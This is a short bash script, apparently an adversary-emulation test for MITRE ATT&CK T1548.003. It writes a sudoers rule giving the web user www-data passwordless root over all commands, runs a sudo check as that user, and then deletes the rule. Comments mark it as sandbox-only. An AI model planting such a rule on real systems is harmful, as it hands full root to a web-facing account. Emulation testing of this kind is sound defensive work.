#!/bin/bash
# technique: T1548.003 Abuse Elevation Control Mechanism: Sudo and Sudo Caching
# tactic: privilege-escalation
# user: root
# needs: sudo
# does: lets a web user run everything as root, and uses it
# harmless: root only in the sandbox; the rule is removed

echo 'www-data ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/00-www
chmod 440 /etc/sudoers.d/00-www
su www-data -s /bin/sh -c 'sudo -n id' >/dev/null 2>&1
rm /etc/sudoers.d/00-www
